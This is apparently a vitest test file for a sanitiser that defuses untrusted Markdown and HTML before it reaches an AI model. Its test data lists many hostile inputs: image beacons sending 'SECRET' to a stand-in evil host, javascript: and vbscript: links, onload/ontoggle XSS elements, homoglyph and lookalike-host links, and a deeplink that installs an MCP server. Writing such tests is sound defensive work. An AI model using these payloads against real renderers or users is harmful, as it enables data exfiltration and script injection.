import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { projectRemoteAnswer } from '../../../../src/main/hub/features/imports/mcp/tool.ts';
import { smallData } from '../../../../src/main/hub/features/imports/small-data.ts';
import {
  cleanMarkdown,
  cleanProse,
  cleanTitle,
  defuse,
  tangledMark,
} from '../../../../src/main/hub/platforms/clean-text.ts';
import { IssueView } from '../../../../src/main/hub/platforms/github/views/issues.ts';
import { fileKind } from '../../../../src/main/hub/platforms/google/files.ts';
import { plainMrkdwn } from '../../../../src/main/hub/platforms/slack/mrkdwn.ts';
import { isLongRun } from '../../../harness/long-run.ts';
import { anyText } from '../features/chat/answer/any-text.ts';
import { attacks, traps } from '../features/chat/answer/attacks.ts';
import { harmInProse } from './harm-in-prose.ts';

const evil = 'https://evil.example/p.png?d=SECRET';
const mark = '[image: x, from evil.example]';
const goes = ' (goes to evil.example)';
const noScript = '(javascript: link removed)';
const long = 'a'.repeat(2_100);
/** Cyrillic letters, written as escapes to be seen. */
const [a, e, i, o, er] = ['\u0430', '\u0435', '\u0456', '\u043e', '\u0440'];

const tricks: [how: string, text: string, defused: string][] = [
  ['an image', `a ![x](${evil}) b`, `a ${mark} b`],
  ['an image without text', `![](${evil})`, '[image, from evil.example]'],
  ['an image with a title', `![x](${evil} "a) title")`, mark],
  ['an image in angle brackets', `![x](<${evil}>)`, mark],
  ['an image by reference', `![x][i]\n\n[i]: ${evil}`, `${mark}\n\n[i]: ${evil}`],
  [
    'an image by its own name',
    `![I  x]\n\n[i x]: <${evil}> 't'`,
    `[image: I x, from evil.example]\n\n[i x]: <${evil}> 't'`,
  ],
  ['an image by an empty reference', `![x][]\n\n> [x]:\n  ${evil}`, `${mark}\n\n> [x]:\n  ${evil}`],
  ['an image without a scheme', '![x](//evil.example/p.png)', mark],
  ['an image with backslashes', '![x](https:\\\\evil.example\\p.png)', mark],
  ['an image as data', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', '[image: x]'],
  ['an image within the repository', '![x](docs/logo.png)', '[image: x]'],
  ['an image with entities', '![x](https&#58;&sol;/evil&#x2e;example/p.png)', mark],
  ['an image with escapes', '![x](https\\://evil\\.example/p.png)', mark],
  ['an image with parentheses', '![x](https://evil.example/(a(b)c)?d=1)', mark],
  ['an image over two lines', `![x\ny](\n${evil}\n)`, '[image: x y, from evil.example]'],
  ['an image in a link', `[![x](${evil})](https://evil.example)`, `[${mark}](https://evil.example)`],
  [
    'a link in an image',
    `![[x](https://evil.example)](${evil})`,
    '[image: (x)(https://evil.example), from evil.example]',
  ],
  [
    'an image in an image',
    `![a ![b](${evil}) c](${evil})`,
    '[image: a (image: b, from evil.example) c, from evil.example]',
  ],
  ['an image before a target', `![x](${evil})(https://evil.example)`, `${mark} (https://evil.example)`],
  ['an image that defines', `![x](${evil}): ${evil}`, `${mark} : ${evil}`],
  ['an image in code', `\`![x](${evil})\``, `\`${mark}\``],
  ['an image whose text holds code', `![a \`]\` b](${evil})`, `! [a \`]\` b] (${evil})`],
  ['an image around code', `![a \`[\` b](${evil})`, `! [a \` [ \` b](${evil})`],
  ['an image that never ends', `![x](https://evil.example/${long})`, `! [x](https://evil.example/${long})`],
  ['the image element', `<img alt="x" src=${evil}>`, mark],
  ['the image element in capitals, over lines', `<IMG\nSRC='${evil}'\nALT='x'/>`, mark],
  ['the image element with slashes', `<img/src="${evil}"/alt="x">`, mark],
  ['the image element with an unclosed quote', `<img alt="<" src="${evil}">`, '[image: <, from evil.example]'],
  ['the image element without an end', `<img alt="x" src="${evil}`, mark],
  ['the image element by a set', `<img srcset="${evil} 2x">`, '[image, from evil.example]'],
  ['an image in SVG', `<svg><image href="${evil}"/></svg>`, '[image, from evil.example]'],
  ['an image with a prefix', `<svg:image xlink:href="${evil}"/>`, '[svg:image, from evil.example]'],
  ['a picture', `<picture><source srcset="${evil}"></picture>`, '<picture>[image, from evil.example]</picture>'],
  ['a video', `<video poster="${evil}"></video>`, '[video, from evil.example]</video>'],
  ['a frame', `<iframe src="${evil}"></iframe>`, '[iframe, from evil.example]'],
  ['a style', `<p style="background:url(${evil})">x</p>`, '[p]x</p>'],
  ['a style sheet', `<style>@import url(${evil});</style>`, `@import url(${evil});`],
  ['a page that goes on', `<meta http-equiv=refresh content="0;url=${evil}">x`, 'x'],
  ['an event', '<details open ontoggle=alert(1)>x</details>', '[details]x</details>'],
  ['a link that claims another host', `[github.com/login](${evil})`, `[github.com/login${goes}](${evil})`],
  ['one with an address as its text', `[https://github.com](${evil})`, `[https://github.com${goes}](${evil})`],
  [
    'one in emphasis and escapes',
    `[**git\\hub\\.com**](${evil})`.replace('git\\h', 'gith'),
    `[**github\\.com**${goes}](${evil})`,
  ],
  ['one by reference', `[github.com][l]\n\n[l]: ${evil}`, `[github.com${goes}][l]\n\n[l]: ${evil}`],
  [
    'one by its own name',
    `[github.com]\n\n[github.com]: ${evil}`,
    `[github.com${goes}&#93;[github.com]\n\n[github.com${goes}&#93;[github.com&#93;: ${evil}`,
  ],
  ['one in HTML', `<a class=x href="${evil}">github.com</a>`, `[github.com${goes}](<${evil}>)`],
  ['one in HTML without an end', `<a href='${evil}'>github.com`, `[github.com${goes}](<${evil}>)`],
  ['one with a mailbox', `[support@github.com](${evil})`, `[support@github.com${goes}](${evil})`],
  ['one behind a name', '[x](https://github.com@evil.example/a)', '[x](<https://evil.example/a>)'],
  ['one behind a name and a password', 'https://github.com:443@evil.example/a', 'https://evil.example/a'],
  ['one in odd numbers', '[x](http://0x7f.1/) http://2130706433/a', '[x](<http://127.0.0.1/>) http://127.0.0.1/a'],
  [
    'a host in Cyrillic letters',
    `[x](https://g${i}thub.com/a) https://g${i}thub.com/a`,
    '[x](<https://xn--gthub-n2e.com/a>) https://xn--gthub-n2e.com/a',
  ],
  [
    'a claim in Cyrillic letters',
    `[g${i}thub.com](https://github.com/)`,
    '[xn--gthub-n2e.com (goes to github.com)](https://github.com/)',
  ],
  [
    'a host without a scheme',
    `www.g${i}thub.com and ${a}${er}${er}l${e}.com and g${o}${o}gle.com`,
    'www.xn--gthub-n2e.com and xn--l-7sbq6ba.com and xn--ggle-55da.com',
  ],
  ['a host all in other letters', `${a}${er}${er}\u04cf${e}.com`, 'xn--80ak6aa92e.com'],
  ['a host in wide letters', 'https://\uff45vil.example/ \uff47ithub\u3002com', 'https://evil.example/ github.com'],
  ['a host in percents', 'https://g%D1%96thub.com/a', 'https://xn--gthub-n2e.com/a'],
  ['an address with backslashes', 'https:\\\\evil.example', 'https://evil.example'],
  ['a script as a target', '[x](java\tscript:alert(1)) <javascript:alert(1)>', `[x] ${noScript} ${noScript}`],
  ['a script in HTML', '<a href=" &#106;avascript:alert(1)">x</a>', `[x] ${noScript}`],
  [
    'a page as a target',
    '[x](data:text/html,<b>) [y](file:///etc/passwd)',
    '[x] (data: link removed) [y] (file: link removed)',
  ],
  [
    'a link that starts a program',
    '[Install](cursor://anysphere.cursor-deeplink/mcp/install?name=x)',
    '[Install] (cursor: link removed)',
  ],
  ['a drawing', `\`\`\`mermaid\nA@{ img: "${evil}" }\n\`\`\``, `\`\`\`text\nA@{ img: "${evil}" }\n\`\`\``],
];

/** Comes through byte for byte. */
const harmless: [what: string, text: string][] = [
  ['prose', 'Hello, *world*: **3** of 4 (75 %) – “done”! See [1], [WIP], a[0][1] and f(x)[2].'],
  [
    'links',
    '[docs](https://docs.example.com/a_(b)?c=d#e "t"), https://example.com/a, <https://example.com>, www.example.com',
  ],
  ['links of the repository', '[guide](docs/guide.md) [top](#top) [mail](mailto:ada@example.com) [next](../README.md)'],
  [
    'a link whose text is its host',
    '[github.com](https://github.com/a) [www.github.com](https://github.com) [github.com](https://gist.github.com/a)',
  ],
  [
    'a link whose text is a file',
    '[README.md](https://github.com/a/b) [src/main.rs](https://github.com/a/b) [build.sh](https://github.com/a/b)',
  ],
  ['references', 'See [the docs][1] and [1].\n\n[1]: https://docs.example.com/a'],
  ['footnotes', 'So it is.[^1]\n\n[^1]: https://example.com says so.'],
  ['tasks and quotations', '> [!NOTE]\n> - [ ] one\n> - [x] two'],
  ['a path in another script', '[\u7ef4\u57fa](https://zh.wikipedia.org/wiki/\u4e2d\u6587)'],
  ['Chinese', '\u8be6\u89c1 https://example.com/a\uff0c\u6216\u770bexample.com\u5427'],
  ['Russian', '\u0421\u043c. README.md \u0438 \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444'],
  ['code', 'let v = vec![0; 10]; if (a <b && c> d) x[i](y);\n```ts\nconst x: Array<string> = [];\n```'],
  ['generic types', 'Map<String, List<Integer>> and std::vector<int> and Result<T, E>'],
  [
    'tags that do nothing',
    '<details><summary>More</summary>\n\n<b>bold</b><br/><kbd>Ctrl</kbd> <sub align="left">x</sub></details>',
  ],
  [
    'a commit, a UUID and base64',
    '0123456789abcdef0123456789abcdef01234567 123e4567-e89b-12d3-a456-426614174000 iVBORw0KGgo=',
  ],
  ['Windows paths', 'C:\\Users\\ada\\[x] and \\\\server\\share'],
  ['mail', 'Co-authored-by: Ada <ada@example.com>\nReviewed-by: g@example.com'],
  ['times and ratios', '12:30:45, 3:1, a:b, key: value, http: off'],
];

/** By which prose of others comes to a model. */
const doors: Record<string, (text: string) => string> = {
  'a body in Markdown': (text) => cleanMarkdown(text, 20_000),
  'a message of a commit': (text) => cleanProse(text, 20_000),
  'a title': (text) => cleanTitle(text, 20_000),
  'a message of Slack': (text) => plainMrkdwn(text, 20_000, { person: () => undefined, channel: () => undefined }),
  'an imported MCP server': (text) => projectRemoteAnswer({ content: [{ type: 'text', text }] }, 'x').text,
  'data of an imported API': (text) => String((smallData({ text }, 30_000).data as { text: string }).text),
};

describe('prose of others', () => {
  it.each(tricks)('is defused of %s', (_, text, defused) => {
    expect(defuse(text)).toBe(defused);
    expect(harmInProse(defuse(text))).toEqual([]);
  });

  it.each(tricks)('is the same when it is defused of %s again', (_, __, defused) => {
    expect(harmInProse(defuse(defused))).toEqual([]);
  });

  it.each([
    ['a link that ends otherwise than it seems', `[a](x ![y](${evil}))`],
    ['an element in a target', '[x](<a<b>[click](javascript:alert(1)))'],
    ['an image in a target that never ends', `[a](x "![y](${evil})`],
    ['an image in a title', `[a](<x> '![y](${evil}) ')`],
    ['an image behind a target with a blank', `[a](b c) ![y](${evil} (t) u) [a](x ![y][z] )\n\n[z]: ${evil}`],
    ['a script behind a label with code', '[a `](x) `](javascript:alert(1))'],
    ['a script behind a nested name', '[a [b](c)][d]\n\n[d]: javascript:alert(1)'],
    ['a script in angle brackets with a blank', '[x](< javascript:alert(1)>) [x](<java\nscript:alert(1)>)'],
    ['a script of thousands of letters', `[x](javascript:alert(1)//${long})`],
    ['a script behind thousands of blanks', `[x](${' '.repeat(2_100)}javascript:alert(1))`],
    ['another host of thousands of letters', `[github.com](${evil}${long})`],
    ['another host by a name with brackets', `[github.com][a\\]b]\n\n[a\\]b]: ${evil}`],
    ['a script by a name over two lines', '[x][a\nb]\n\n[a b]:\n  <javascript:alert(1)>'],
    ['a script by a name with brackets', '[x][a\\]b]\n\n[a\\]b]: javascript:alert(1)'],
    ['a script by a name in a list in a quotation', '[x][a]\n\n> 1. - [a]: vbscript:alert(1)'],
    ['a program in angle brackets', 'Press <cursor://x/install?name=y> or <vscode:extension/x>'],
    ['a mailbox of another protocol', 'xmpp:ada@evil.example/x and ftp://evil.example'],
    ['an element in the text of a link', `[a <img src=x:y](${evil})`],
    ['an element cut by a title', `[a](b "<img src='${evil}")`],
    ['an element with a slash for a blank', '<x/onclick=alert(1)> <svg/onload=alert(1)//'],
    [
      'an element in a processing instruction',
      '<?x <img src=y>?> <![CDATA[<script>alert(1)</script>]]> <!x <img src=y>>',
    ],
    ['an image in a table', `| a | b |\n|---|---|\n| \`x | ![y](z "\`|") |`],
    ['an image in a footnote', `[^a]\n\n[^a]: ![y](x ![y](${evil}))`],
    ['a formula that links', '$\\href{javascript:alert(1)}{x}$ [a](b$) ![$](c)'],
    ['a drawing behind a class', '``` {.mermaid}\nA\n```\n~~~ \tSVG\n<svg onload=alert(1)>\n~~~'],
  ])('loads, runs and links nothing that it does not say: %s', (_, text) => {
    for (const [door, clean] of Object.entries(doors)) {
      const shown = clean(text);
      expect(harmInProse(shown), `${door}: ${shown}`).toEqual([]);
    }
  });

  it.each(Object.keys(doors))(
    'renders to nothing but text, pages of the web and pages beside it, whatever it is: %s',
    (door) => {
      const numRuns = isLongRun ? 40_000 : 250;
      const property = fc.property(anyText, (text) => {
        const shown = doors[door]?.(text) ?? '';
        expect(harmInProse(shown), shown).toEqual([]);
      });
      void fc.assert(property, isLongRun ? { numRuns } : { numRuns, seed: 1 });
    },
    30 * 60_000,
  );

  it('is still read where it was written again', () => {
    const text = `See [the docs](https://docs.example.com/a?b=c), \`x[i](y)\` and <!DOCTYPE html>.\n\n\`\`\`ts\nconst a: Map<string, T[]> = b[0](c);\n\`\`\``;
    expect(defuse(text)).toBe(
      'See [the docs](https://docs.example.com/a?b=c), `x[i]`(`y)` and &lt;!DOCTYPE html>.\n\n```ts\nconst a: Map<string, T[]> = b[0](c);\n```',
    );
  });

  it.each(Object.entries({ ...attacks, ...traps }))('loads and runs nothing in any renderer: %s', (_, text) => {
    const defused = defuse(text.replaceAll('\u200b', ''));
    expect(harmInProse(defused), defused).toEqual([]);
  });

  it.each([
    ['links in links', `${'['.repeat(3_000)}![x](${evil})${`](${evil})`.repeat(3_000)}`],
    ['images that never end', `\`\`\`\n${'![]('.repeat(10_000)}\n![x](${evil})`],
    ['references', `${'['.repeat(5_000)}![x][i]${']'.repeat(5_000)}\n\n[i]: ${evil}\n\n<!-- > <b>x</b>`],
  ])('is shown as plain text where it is too tangled: %s', (_, text) => {
    const shown = defuse(text);
    const [mark, fence = '', ...lines] = shown.split('\n');
    expect([mark, /^`{3,}$/.test(fence), lines.at(-1)]).toEqual([tangledMark, true, fence]);
    expect(lines.slice(0, -1).join('\n')).not.toContain(fence);
    // Also for a renderer to which the fence is none.
    const bare = lines.slice(0, -1).join('\n');
    expect(bare).not.toMatch(/!\[|\][([:]|<[a-z/!?]/i);
    expect(harmInProse(bare.replaceAll('['.repeat(2_000), '').slice(-5_000))).toEqual([]);
  });

  it.each(harmless)('keeps %s', (_, text) => {
    expect(defuse(text)).toBe(text);
  });
});

it.each(['![x](//evil.example/b)', '[x](javascript:alert(1))', '<img src=//evil.example>', '[acme.com](//evil.io)'])(
  'is no prose, and still somebody’s words: %s',
  (said) => {
    const read = IssueView.read.parse({
      number: 1,
      title: 'x',
      state: 'open',
      user: { login: 'ada' },
      labels: [],
      assignees: [],
      comments: 0,
      created_at: '',
      updated_at: '',
      html_url: 'https://github.com/a/b/issues/1',
      author_association: 'OWNER',
      milestone: { number: 1, title: said },
    });
    const shown = [fileKind(said), IssueView.project(read).milestone ?? ''];
    expect(shown.every((text) => text !== '')).toBe(true);
    expect(shown.flatMap(harmInProse)).toEqual([]);
  },
);
